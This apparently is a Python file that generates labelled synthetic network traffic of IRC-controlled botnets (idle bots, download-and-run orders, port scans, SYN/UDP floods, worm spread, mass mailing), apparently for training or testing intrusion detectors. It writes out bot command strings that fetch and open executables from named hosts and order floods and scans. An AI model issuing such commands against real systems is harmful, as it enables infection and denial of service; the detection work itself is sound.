# SPDX-License-Identifier: GPL-3.0-or-later
"""Bots that take their orders over IRC, as in the dialogs of the source "many sensors": idle, and ordered to download,
to scan, to flood, to mail; many that log in at once."""

from scenarios import Label, people, scenario, talk
from scenarios.irc import Client
from scenarios.world import ns

MACHINES = ("KORVANNIEW2 PORTABLE2 kbpf79 YASU NBOC1 RMD93001CRPTSY ZIGGYSWORLD RSMITH01 NBIS1 TOJESTMOJASIEC VC001 LT204386 "
            "MZAYED TCOLLINI muxdw48 CHALLENGER CC521608-A TOSHIBA14 UK1159 HERMANLAPTOP ZL051611 LAPTOPMR EUGENE "
            "NR00018 VAIOLAPIF").split()


def numbered(random, pattern="JPN|%09d"):
    return pattern % random.randrange(10 ** int(pattern[pattern.index("%0") + 2:-1]))


def scan(world, time, host, port, count, rate, live=0.01, pick=None, refused=0.05, retries=(3.0,), then=None):
    """`count` addresses outside, `rate` a second; few answer. `then(time, address)` is done to one that does."""
    for _ in range(count):
        address = pick() if pick else f"198.{world.random.choice((18, 19))}.{world.random.randrange(256)}." \
                                      f"{world.random.randrange(1, 255)}"
        kind = world.random.random()
        if kind < live:
            tcp = world.tcp(time, host, address, port)
            if then:
                then(tcp, address)
            else:
                tcp.up(world.random.randbytes(140)).down(world.random.randbytes(90))
            tcp.close()
        elif kind < live + refused:
            world.refused(time, host, address, port)
        else:
            world.silent(time, host, address, port, retries)
        time += world.jitter(1 / rate)
    return time


@scenario("irc-idle", group="bot")
def irc_idle(world):
    """Dialog 1: a bot logs in on port 21, joins a keyed channel of seventy, reports, and waits for an hour."""
    hosts = people.hosts(9)
    end = people.office(world, hosts, people.minutes(60))
    bot = hosts[3]
    server = world.outside()
    c = Client(world, people.at(world, 300), bot, server, "oomvp23", port=21, user="oks34k", real="slave",
               network="LA.CNRDI1-NIX")
    c.welcome(users=78)
    c.join("#msbots8", "slavesofms", members=MACHINES)
    c.tcp.wait(2)
    c.say("#msbots8", "Slave oomvp23 reporting, proxy - 2 , IPv4 address is 10.64.14.72 . .")
    for name in ("Y1129", "SEXP-OTE", "NB-SANDER-XP", "PAUL", "NEW-F96CA8AF071"):
        c.tcp.wait(world.random.uniform(60, 240))
        address = f"192.0.2.{world.random.randrange(1, 255)}"
        c.down(f":{name}!jhgmt28@{address} JOIN :#msbots8")
        c.hear(name, "#msbots8", f"Slave {name.lower()} reporting, proxy - 2 , IPv4 address is {address} . .", mask=address)
    c.idle(end)
    return {bot: Label("irc_control")}


@scenario("irc-download", group="bot")
def irc_download(world):
    """Dialog 2: the topic orders a download; the bot obeys and reports each step."""
    hosts = people.hosts(9)
    people.office(world, hosts, people.minutes(30))
    bot = hosts[5]
    c = Client(world, people.at(world, 200), bot, world.outside(), "Bot|9277", user="yscxhz", network="STA")
    c.welcome()
    c.join("#server#", "send.", topic=".dl http://www.gizahost.com/htri/sbr.exe aaaananz4.exe 1", operator="")
    c.say("#server#", "[DOWNLOAD]: Downloading URL: http://www.gizahost.com/htri/sbr.exe to: aaaananz4.exe.")
    c.down(":STA 404 Bot|9277 #server# :Cannot send to channel")
    end = talk.fetch(world, c.now + ns(0.4), bot, "www.gizahost.com", "/htri/sbr.exe", talk.program(world.random),
                     "application/octet-stream", agent="Mozilla/4.0 (compatible)")
    c.tcp.until(end)
    c.say("#server#", "[DOWNLOAD]: Downloaded 170.0 KB to aaaananz4.exe @ 170.0 KB/sec.")
    c.say("#server#", "[DOWNLOAD]: Opened: aaaananz4.exe.")
    c.idle(c.now + ns(1200))
    # A colleague gets an ordinary program, by its name, at the same time.
    talk.fetch(world, people.at(world, 260), hosts[2], "download.editor.org", "/setup-2.1.exe", talk.program(world.random,
                                                                                                             90_000),
               "application/octet-stream")
    return {bot: Label("irc_control", "egg", kinds=("irc_control.executed",))}


@scenario("irc-scan", group="bot", same=("scan",))
def irc_scan(world):
    """Dialog 3: ordered to look for a hole behind port 445, the bot tries 15 addresses a second, below 60 kbit/s."""
    hosts = people.hosts(9)
    people.office(world, hosts, people.minutes(15))
    bot = hosts[1]
    c = Client(world, people.at(world, 100), bot, world.outside(), "JPN|425015894", user="mteubrfprba", network="STA")
    c.welcome()
    c.join("#.to.", "teamz", topic=".asc asn1smb 300 2 0 -r -s", operator="@SaBeR")
    c.tcp.wait(20)
    c.hear("SaBeR", "#.to.", ".k teamall")
    c.say("#.to.", "[MAIN]: Password accepted.")
    c.hear("SaBeR", "#.to.", ".asc asn1smbnt 300 2 0 -r -s")
    c.say("#.to.",
          "[SCAN]: Random Port Scan started on 198.18.x.x:445 with a delay of 2 seconds for 0 minutes using 300 threads.")
    scan(world, c.now + ns(1), bot, 445, 4500, 15)
    c.idle(c.now + ns(400))
    return {bot: Label("irc_control", "scan", kinds=("irc_control.executed", "scan.horizontal"))}


@scenario("irc-topic", group="bot")
def irc_topic(world):
    """Dialog 4: the topic orders a download, a scan and a worm's ride; the bot does all, and those it infects fetch
    from it."""
    hosts = people.hosts(8)
    people.office(world, hosts, people.minutes(20))
    bot, address = hosts[6], world.site("www.home.no")[0]
    c = Client(world, people.at(world, 60), bot, world.outside(), "[x]IqRkpiH", user="4isf0", real="SYSTEM",
               network="hub.41090.com")
    c.welcome()
    c.join("#hotgirls",
           topic="* download http://www.home.no/chirir0za/wnguards.exe -e -s ][ * ipscan i.i.i.i mssql2000 -s ]"
                              "[ * wormride -s -t", operator="@luffy")
    egg = talk.program(world.random, 60_000)
    time = talk.fetch(world, c.now + ns(1), bot, "www.home.no", "/chirir0za/wnguards.exe", egg, "text/plain", address=None)
    served = []

    def infect(tcp, victim):
        tcp.up(world.random.randbytes(376))
        served.append((tcp.now, victim))
    scan(world, time + ns(2), bot, 1433, 2500, 8, live=0.003, then=infect)
    for when, victim in served:
        fetched = world.tcp(when + ns(1.5), victim, bot, 2745)
        fetched.up(b"GET /x HTTP/1.0\r\n\r\n").down(talk.http_response(egg, "application/octet-stream"))
        fetched.close()
    c.idle(c.now + ns(600))
    return {bot: Label("irc_control", "egg", "scan")}


@scenario("irc-flood-syn", group="bot", same=("flood",))
def irc_flood_syn(world):
    """Ordered to flood a web server with connection requests, 400 a second for 40 s."""
    hosts = people.hosts(9)
    people.office(world, hosts, people.minutes(10))
    bot, victim = hosts[4], "203.0.113.80"
    c = Client(world, people.at(world, 120), bot, world.outside(), "USA|0183|XP", port=8080)
    c.welcome().join("#rx", "letmein", operator="@Boss")
    c.tcp.wait(30)
    c.hear("Boss", "#rx", f".ddos.syn {victim} 80 40")
    c.say("#rx", f"[DDoS]: Flooding: ({victim}:80) for 40 seconds.")
    time = c.now + ns(0.5)
    for _ in range(400 * 40):
        world.silent(time, bot, victim, 80, ())
        time += ns(1 / 400)
    c.tcp.until(time)
    c.say("#rx", "[DDoS]: Done with flood (400KB/sec).")
    c.idle(c.now + ns(120))
    return {bot: Label("irc_control", "flood", kinds=("irc_control.executed", "flood.syn"))}


@scenario("irc-flood-udp", group="bot", same=("flood",))
def irc_flood_udp(world):
    """Ordered to flood with datagrams and pings, 600 a second each."""
    hosts = people.hosts(6)
    people.office(world, hosts, people.minutes(10))
    bot, victim = hosts[2], "203.0.113.53"
    c = Client(world, people.at(world, 90), bot, world.outside(), "[00|DEU|48213]", port=5190)
    c.welcome().join("##udp##", operator="@Boss")
    c.tcp.wait(10)
    c.hear("Boss", "##udp##", f"!udp {victim} 12000 1024 2 -s")
    time = c.now + ns(0.5)
    for n in range(12_000):
        world.datagrams(time, bot, victim, world.random.randrange(1, 65535), [(0, True, bytes(200))], sport=3000 + n % 3000)
        time += ns(1 / 600)
    c.tcp.until(time + ns(20))
    c.hear("Boss", "##udp##", f"!ping {victim} 9000 64 1")
    world.ping(c.now + ns(0.5), bot, victim, 9000, 1 / 600, answered=False)
    c.idle(c.now + ns(90))
    return {bot: Label("irc_control", "flood", kinds=("flood.udp", "flood.icmp"))}


@scenario("irc-download-v6", group="bot")
def irc_download_v6(world):
    """The same as dialog 2 over IPv6: the order comes in talk, the program with a picture's name."""
    hosts = people.hosts(4) + ["fd20:0:0:1::10", "fd20:0:0:2::10", "fd20:0:0:3::10"]
    people.office(world, hosts[:4], people.minutes(10))
    for n, host in enumerate(hosts[4:]):
        for k in range(5):
            talk.https(world, people.at(world, 30 + 90 * k + n), host, "www.wiki.org", address=f"2001:db8:5::{k + 1}")
    bot = hosts[5]
    c = Client(world, people.at(world, 60), bot, "2001:db8:66::7", "XP|63014", port=7000)
    c.welcome().join("#six", "k3y", operator="@herder")
    c.tcp.wait(15)
    c.hear("herder", "#six", ".download http://[2001:db8:99::5]:8080/pic1.jpg c:\\w.exe 1")
    talk.fetch(world, c.now + ns(1), bot, "[2001:db8:99::5]:8080", "/pic1.jpg", talk.program(world.random, 40_000),
               "image/jpeg",
               address="2001:db8:99::5", port=8080)
    c.tcp.wait(6)
    c.say("#six", "[DOWNLOAD]: Opened: c:\\w.exe.")
    c.idle(c.now + ns(200))
    return {bot: Label("irc_control", "egg", kinds=("irc_control.executed", "egg.disguised"))}


@scenario("irc-herd", group="bot")
def irc_herd(world):
    """Eight of twenty-four home hosts log in to one controller within three minutes; an hour later all scan on order."""
    hosts = people.hosts(24)
    people.office(world, hosts, people.minutes(40), every=200)
    server, bots = world.outside(), hosts[2:18:2]
    clients = []
    for n, bot in enumerate(bots):
        c = Client(world, people.at(world, 100 + 20 * n), bot, server, numbered(world.random, "NLD|%06d"), port=6667)
        c.welcome().join("#own3d", "x", operator="@king", members=[numbered(world.random, "NLD|%06d") for _ in range(30)])
        clients.append(c)
    for c, bot in zip(clients, bots):
        c.idle(people.at(world, 1800))
        c.hear("king", "#own3d", ".advscan dcass 50 5 0 -b -r -s")
        scan(world, c.now + world.jitter(2), bot, 135, 240, 12)
        c.idle(c.now + ns(200))
    return {bot: Label("irc_control", "scan") for bot in bots}


@scenario("irc-mail", group="bot", same=("mass_mail",))
def irc_mail(world):
    """Ordered to mail: the bot fetches a list, asks for mail servers, and sends 1,500 mails an hour for forty minutes."""
    from scenarios.bots_mail import spam_run
    hosts = people.hosts(10)
    people.office(world, hosts, people.minutes(50), every=150)
    bot = hosts[7]
    c = Client(world, people.at(world, 100), bot, world.outside(), "GBR|77120", user="wqpzk", network="STA")
    c.welcome().join("#m", "mailme", operator="@pit")
    c.tcp.wait(40)
    c.hear("pit", "#m", ".email http://198.51.100.77/list.txt 1500 2 -s")
    time = talk.fetch(world, c.now + ns(1), bot, "198.51.100.77", "/list.txt", b"a@example.com\n" * 4000, "text/plain",
                      address="198.51.100.77")
    c.tcp.until(time)
    c.say("#m", "[EMAIL]: Mailing started.")
    spam_run(world, time + ns(2), bot, 1000, 1500 / 3600)
    c.idle(people.at(world, people.minutes(48)), every=90)
    return {bot: Label("irc_control", "mass_mail", "dns_anomaly",
                       kinds=("mass_mail.servers", "mass_mail.volume", "dns_anomaly.mail_servers"))}
